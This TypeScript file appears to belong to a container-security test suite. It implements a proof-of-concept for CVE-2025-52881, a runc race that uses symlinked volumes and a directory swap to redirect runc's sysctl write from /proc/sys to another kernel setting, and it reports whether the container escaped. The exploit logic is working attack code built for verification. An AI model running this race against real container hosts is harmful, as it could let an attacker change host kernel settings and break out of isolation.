import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname } from 'node:path'
import type { Spec, SpecMount } from '../../../e2e/spec.ts'
import { contained, escaped, reachedGuest, type Attack, type Verdict } from '../../attack.ts'
import { bundleId, makeBundle, runWinning } from '../../bundle.ts'
import { KernelSetting } from '../../kernel-setting.ts'
import { install } from '../../programs.ts'
import type { Site } from '../../site.ts'

/** A pod author may set it. */
const key = 'net.ipv4.ip_unprivileged_port_start'
const path = `/proc/sys/${key.replaceAll('.', '/')}`

const bind = (destination: string, source: string): SpecMount => ({ destination, type: 'bind', source, options: ['rbind', 'rw'] })

/** A volume whose directory the attacker exchanges for a link to the network's settings, and what the spec mounts there: under the key's name a link to another setting. */
function makeVolume(site: Site, setting: KernelSetting): { volume: string; spec: (spec: Spec) => void } {
  const [volume, feigned] = [`${site.directory}/volume`, `${site.directory}/feigned`]
  rmSync(volume, { recursive: true, force: true })
  mkdirSync(`${volume}/directory/ipv4`, { recursive: true })
  symlinkSync('../proc/sys/net', `${volume}/link`)
  mkdirSync(feigned, { recursive: true })
  rmSync(`${feigned}/${key.split('.').at(-1)}`, { force: true })
  symlinkSync(setting.path, `${feigned}/${key.split('.').at(-1)}`)
  return {
    volume,
    spec: (spec) => {
      spec.mounts.push(bind('/v', volume), bind('/v/directory/ipv4', feigned))
      spec.linux.sysctl = { [key]: setting.value }
    },
  }
}

/** At the second look at the path runc has decided that it does not lie below /proc. */
function againstRunc(site: Site): Verdict {
  const setting = new KernelSetting()
  const { volume, spec } = makeVolume(site, setting)
  const bundle = makeBundle(site, ['cat', path], spec)
  const said = runWinning(site, bundle, { swap: 'after', call: 'stat', path: '/v/directory/ipv4', count: 2 }, `${volume}/directory`, `${volume}/link`)
  return setting.changed ? escaped(`runc's write of ${key} went to the host's ${setting.path}: ${setting.host}`) : contained(`${bundleId(site)}: ${said}`)
}

/**
 * runc asked whether a mount lies below /proc, and looked its path up once more to make it. A neighbour that has the link there in between
 * gets a directory of its own over the settings that runc writes next, and leads the write elsewhere. (The other half of the advisory,
 * the LSM's label in /proc/self/attr, is the same write; no kernel here has an LSM with labels.)
 */
export const attack: Attack = {
  id: 'CVE-2025-52881',
  title: 'a directory of the attacker gets over a part of /proc/sys, by a link of the image or a race, and leads the runtime\'s write to another setting',
  family: 'container',
  leak: 'core_pattern or sysrq-trigger of the kernel, and so the kernel; an LSM\'s label that is not set',
  bound: 'container',
  control: { weak: 'Debian\'s runc 1.1.5, held by a debugger at the moment at which the race is won', run: (site) => Promise.resolve(againstRunc(site)) },
  async run(site) {
    const setting = new KernelSetting()
    const { volume, spec } = makeVolume(site, setting)
    // How many settings there are where the attacker's directory has one.
    const args = ['sh', '-c', `ls ${dirname(path)} | wc -l; cat ${setting.path}`]
    const told = [await site.attempt({
      args,
      rootfs: (layer) => { symlinkSync('/proc/sys/net', `${layer}/settings`) },
      spec: (own) => {
        spec(own)
        own.mounts = own.mounts.map((mount) => (mount.destination === '/v/directory/ipv4' ? { ...mount, destination: '/settings/ipv4' } : mount))
      },
    })]
    // In a pod of its own: a container writes only what its pod has not set, and a pod's sysctls are those of its first container.
    const swapper = await site.start({
      rootfs: (layer) => { install(layer, 'exchange') }, args: ['/attack/exchange', '/v/directory', '/v/link', '/v/stop'],
      spec: (own) => { own.mounts.push(bind('/v', volume)) },
    })
    await swapper.output.until(/exchanging/)
    for (let round = 0; round < 4 && !setting.changed; round++) told.push(await site.attempt({ args, spec }))
    writeFileSync(`${volume}/stop`, '')
    const lines = told.map(({ refusal, stdout }) => refusal ?? stdout.trim().split('\n').join(', '))
    const said = [...new Set(lines)].join('; ')
    if (setting.changed) return escaped(`the host's ${setting.path} is ${setting.host} now; ${said}`)
    if (told.some(({ stdout }) => stdout.trim().split('\n').at(-1) === setting.value)) return reachedGuest(`the guest's ${setting.path} is ${setting.value} now; ${said}`)
    if (told.some(({ stdout }) => stdout.startsWith('1\n'))) return reachedGuest(`the attacker's directory lies over ${dirname(path)}; ${said}`)
    return contained(`${told.length} creations; ${setting.path} is as it was; settings in ${dirname(path)}, and it: ${said}`)
  },
}
